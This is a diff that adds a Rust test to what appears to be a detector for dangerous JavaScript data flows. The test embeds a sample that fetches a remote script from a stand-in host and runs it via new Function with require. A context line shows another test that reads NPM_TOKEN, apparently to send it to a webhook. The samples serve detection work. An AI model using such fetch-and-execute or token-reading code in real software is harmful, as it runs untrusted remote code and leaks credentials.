@@ -123,6 +123,26 @@ fn javascript_environment_in_a_fetch_body() {
 }
 
 #[test]
+fn javascript_awaited_response_body_run_as_code() {
+    // `await` keeps what the value is: the awaited response's `text()` is downloaded content.
+    let source = "async function go() {\n\
+                  \x20 const res = await fetch('https://stage.example/p.js');\n\
+                  \x20 const body = await res.text();\n\
+                  \x20 const run = new Function('require', body);\n\
+                  \x20 run(require);\n\
+                  }\n";
+    let found = flows(source, JavaScript);
+    assert_eq!(found, vec![("go".to_string(), NetworkDownload, CodeExecution, 2, 4)], "{found:?}");
+    // An awaited value that is no response stays plain data.
+    let plain = "async function go() {\n\
+                 \x20 const cfg = await loadConfig();\n\
+                 \x20 const body = await cfg.text();\n\
+                 \x20 eval(body);\n\
+                 }\n";
+    assert_eq!(flows(plain, JavaScript), vec![]);
+}
+
+#[test]
 fn javascript_host_facts_to_a_webhook_and_short_circuits() {
     let source = "const os = require('os');\n\
                   const user = process.env.NPM_TOKEN || os.userInfo().username;\n\
